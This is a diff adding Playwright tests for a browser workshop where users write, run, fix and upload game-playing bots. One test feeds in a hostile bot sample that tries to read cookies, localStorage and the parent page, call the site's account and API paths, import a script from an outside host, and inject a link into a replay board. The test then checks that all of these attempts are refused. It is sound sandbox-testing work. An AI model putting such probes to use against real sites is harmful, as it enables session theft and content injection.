@@ -1,0 +1,173 @@
+"""The workshop: a stranger writes a bot in the browser, sees why it fails, mends it, and wins."""
+
+import pytest
+from playwright.sync_api import expect
+
+pytestmark = pytest.mark.on_files
+
+BROKEN = """from kauri.sdk import Bot
+
+
+class Mine(Bot):
+    def choose(self, state, clock):
+        print("I may play", len(state.legal_actions()))
+        return state.best_action()
+"""
+
+MENDED = BROKEN.replace(
+    "return state.best_action()",
+    """seat = state.current_player()
+        value = lambda action: sum(state.child(action).playout(seed)[seat] for seed in range(8))
+        return max(state.legal_actions(), key=value)""",
+)
+
+ENDLESS = BROKEN.replace("return state.best_action()", "while True: pass")
+
+HOSTILE = """from kauri.sdk import Bot
+import js
+from pyodide.code import run_js
+
+
+def attempt(name, deed):
+    try:
+        print(name, "gave", deed())
+    except BaseException:
+        print(name, "was refused")
+
+
+def ask(path):
+    request = js.XMLHttpRequest.new()
+    request.open("GET", SITE + path, False)
+    request.send(None)
+    return request.status
+
+
+SITE = "{site}"
+attempt("cookie", lambda: js.document.cookie)
+attempt("page", lambda: js.parent.document)
+attempt("storage", lambda: js.localStorage.length)
+attempt("account", lambda: ask("/accounts/"))
+attempt("API", lambda: ask("/api/v1/bots/"))
+attempt("workshop", lambda: ask("/workshop/"))
+attempt("other host", lambda: js.importScripts("https://example.org/x.js"))
+attempt("script", lambda: run_js("1 + 1"))
+attempt("own script", lambda: js.importScripts(SITE + "/static/kauri/kauri.js"))
+js.postMessage('{{"kind": "film", "film": {{"title": "x", "size": [9, 9], "tally": "", "seats": [],'
+    '"start": {{}}, "board": "<a href=\\\\"/accounts/logout/\\\\"><text>evil</text></a>"}}}}')
+js.postMessage('{{"kind": "broken"}}')
+
+
+class Mine(Bot):
+    def choose(self, state, clock):
+        return state.legal_actions()[0]
+"""
+
+
+@pytest.fixture
+def page(people):
+    page = people.visitor(viewport={"width": 1366, "height": 900}, reduced_motion="reduce")
+    page.goto("/")
+    page.get_by_role("link", name="Workshop", exact=True).click()
+    return page
+
+
+def write(page, text):
+    """Put a text in the place of what is in the editor, as somebody who pastes it."""
+    page.locator(".cm-content").click()
+    page.keyboard.press("Control+A")
+    page.keyboard.press("Delete")
+    page.keyboard.insert_text(text)
+
+
+def run(page, button="Play a game"):
+    page.get_by_role("button", name=button).click()
+
+
+def test_a_stranger_writes_a_bot_sees_its_error_at_its_line_mends_it_and_beats_random(page):
+    run(page)
+    expect(page.locator(".chip")).to_have_count(1)
+    expect(page.locator("#replay .k-picture")).to_be_visible()
+
+    write(page, BROKEN)
+    run(page)
+    expect(page.get_by_role("alert")).to_contain_text("has no attribute 'best_action'")
+    expect(page.locator(".cm-activeLine")).to_have_text("        return state.best_action()")
+    expect(page.locator(".cm-lint-marker-error")).to_be_visible()
+    expect(page.get_by_text("I may play 6")).to_be_visible()
+
+    write(page, MENDED)
+    run(page, "Ten games")
+    expect(page.locator(".chip")).to_have_count(10)
+    expect(page.get_by_text("10 games: ")).to_be_visible()
+    expect(page.locator(".chip.won").first).to_be_visible()
+    expect(page.get_by_role("alert")).to_be_hidden()
+
+
+def test_a_bot_is_asked_again_an_endless_one_is_stopped_and_a_person_plays(page):
+    write(page, MENDED)
+    run(page)
+    expect(page.locator(".chip")).to_have_count(1)
+    page.get_by_role("button", name="First").click()
+    page.get_by_role("button", name="Ask your bot here").click()
+    expect(page.locator("[data-part=answer]")).to_contain_text("Your bot would play")
+
+    write(page, ENDLESS)
+    run(page)
+    expect(page.get_by_text("Playing …")).to_be_visible()
+    run(page, "Stop")
+
+    write(page, MENDED)
+    page.get_by_label("Opponent").select_option("You, on the board")
+    run(page)
+    expect(page.get_by_text("Your turn: choose on the board.")).to_be_visible()
+    page.locator(".k-tap").first.click()
+    expect(page.locator("[data-part=now]")).not_to_contain_text("0 of 0")
+
+
+def test_a_hostile_bot_reaches_nothing_of_the_site(page, people):
+    address = page.url.removesuffix("/workshop/")
+    write(page, HOSTILE.format(site=address))
+    run(page)
+    expect(page.locator(".chip")).to_have_count(1)
+    page.get_by_role("button", name="First").click()
+    printed = page.locator("[data-part=printed]")
+
+    expect(printed).to_contain_text("own script was refused")
+    assert "gave" not in printed.inner_text()
+    expect(page.locator("#replay svg a")).to_have_count(0)
+    # What the browser refused is in its console.
+    people.errors.clear()
+
+
+LAST = """from kauri.sdk import Bot
+
+
+class Mine(Bot):
+    games = ["kalah"]
+
+    def choose(self, state, clock):
+        return state.legal_actions()[-1]
+"""
+
+
+def test_a_player_solves_a_step_and_uploads_the_bot_and_moves_a_draft_to_the_account(people):
+    page = people.player("grace")
+    page.goto("/workshop/?step=kalah/1")
+    write(page, LAST)
+    run(page, "Ten games")
+    expect(page.get_by_text("Solved: the goal is reached.")).to_be_visible()
+    expect(page.get_by_role("link", name="Next step")).to_be_visible()
+
+    page.get_by_role("button", name="Upload").click()
+    page.get_by_label("Name of the new bot").fill("Grace One")
+    page.get_by_role("button", name="Upload and check").click()
+    expect(page.get_by_text("Accepted.")).to_be_visible()
+    page.get_by_role("link", name="Open in the workshop").click()
+    expect(page.locator(".cm-content")).to_contain_text("legal_actions()[-1]")
+
+    write(page, LAST)
+    expect(page.get_by_text("Kept in this browser.")).to_be_visible()
+    page.get_by_role("link", name="Drafts").click()
+    page.get_by_role("button", name="Move to my account").click()
+    expect(page.get_by_text("This browser keeps no draft.")).to_be_visible()
+    expect(page.get_by_role("link", name="Grace One v1")).to_be_visible()
